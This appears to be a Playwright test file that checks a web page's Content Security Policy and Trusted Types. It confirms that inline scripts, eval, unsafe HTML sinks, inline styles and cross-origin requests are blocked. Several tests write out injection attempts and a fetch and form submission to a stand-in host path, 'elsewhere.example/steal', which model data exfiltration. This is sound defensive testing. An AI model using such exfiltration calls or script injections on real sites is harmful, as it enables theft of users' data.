import { expect, test } from './fixtures';

test.use({ mayBreakPolicy: true });

test.beforeEach(async ({ visit }) => {
  await visit('/terms');
});

test('blocks inline scripts and inline event handlers', { tag: '@slow' }, async ({ page, log }) => {
  await page.evaluate(() =>
    new Promise((resolve) => {
      const frame = document.createElement('div');
      document.body.append(frame);
      const script = document.createElement('script');
      script.append('window.owned = true');
      frame.append(script);
      const attribute = document.createElement('img');
      try {
        attribute.setAttribute('onerror', 'window.owned = true');
      } catch {
        // Trusted Types rejects it before the policy does.
      }
      // The inline onerror handler would run before this listener.
      attribute.addEventListener('error', resolve);
      attribute.src = '/media/none.svg';
      frame.append(attribute);
    }).then(() => undefined),
  );
  await expect.poll(() => log.violations.length).toBeGreaterThan(0);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
});

test('blocks eval, Function and setTimeout with a string', async ({ page }) => {
  // The page itself calls the listener, so its policy applies; the debugger would bypass the policy.
  await page.evaluate(() => {
    const results: string[] = [];
    const page = window as unknown as Record<string, (code: string) => unknown>;
    const tries: Record<string, () => unknown> = {
      eval: () => page.eval?.('window.owned = true'),
      Function: () => (page.Function?.('window.owned = true') as () => void)(),
      setTimeout: () => page.setTimeout?.('window.owned = true'),
    };
    document.addEventListener('try', () => {
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          attempt();
        } catch (error) {
          results.push(`${name}: ${(error as Error).name}`);
        }
      }
      // A timer made from a string would have run by then.
      setTimeout(() => Object.assign(window, { results }));
    });
    setTimeout(() => document.dispatchEvent(new Event('try')), 0);
  });
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { results?: string[] }).results))
    .toEqual(['eval: EvalError', 'Function: EvalError', expect.stringMatching(/^setTimeout: (TypeError|EvalError)$/)]);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
});

test('rejects plain strings as HTML, srcdoc or script address', async ({ page, log }) => {
  const refused = await page.evaluate(() => {
    const element = document.createElement('div');
    const tries: (() => void)[] = [
      () => (element.innerHTML = '<b>x</b>'),
      () => element.insertAdjacentHTML('beforeend', '<b>x</b>'),
      () => document.body.setHTMLUnsafe('<b>x</b>'),
      () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
      () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
      () => (document.createElement('script').src = '/static/x.js'),
    ];
    return tries.map((attempt) => {
      try {
        attempt();
        return 'let through';
      } catch (error) {
        return (error as Error).name;
      }
    });
  });
  expect(refused).toEqual(Array<string>(6).fill('TypeError'));
  await expect.poll(() => log.violations.length).toBeGreaterThanOrEqual(6);
});

test('ignores inline style elements and style attributes', { tag: '@slow' }, async ({ page, log }) => {
  await page.evaluate(() => {
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid rgb(1, 2, 3) !important; }';
    document.head.append(style);
    const attribute = document.createElement('p');
    attribute.id = 'styled';
    attribute.setAttribute('style', 'outline: 7px solid rgb(1, 2, 3)');
    document.body.append(attribute);
  });
  const outlineOf = (selector: string) =>
    page.locator(selector).evaluate((element) => getComputedStyle(element).outlineWidth);
  expect(await outlineOf('body')).not.toBe('7px');
  expect(await outlineOf('#styled')).not.toBe('7px');
  await expect.poll(() => log.violations.length).toBeGreaterThanOrEqual(2);
});

test('blocks fetches, forms, frames and base addresses that point to another origin', async ({ page, log }) => {
  const sent = await page.evaluate(() =>
    fetch('https://elsewhere.example/steal').then(
      () => 'sent',
      (error: unknown) => (error as Error).name,
    ),
  );
  expect(sent).toBe('TypeError');
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://elsewhere.example/steal';
    document.body.append(form);
    form.requestSubmit();
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/';
    document.body.append(frame);
    const base = document.createElement('base');
    base.href = 'https://elsewhere.example/';
    document.head.append(base);
  });
  await expect
    .poll(() => log.violations.map(({ directive }) => directive))
    .toEqual(expect.arrayContaining(['connect-src', 'form-action', 'frame-src', 'base-uri']));
  expect(log.requests.map((request) => new URL(request.url()).host)).not.toContain('elsewhere.example');
});
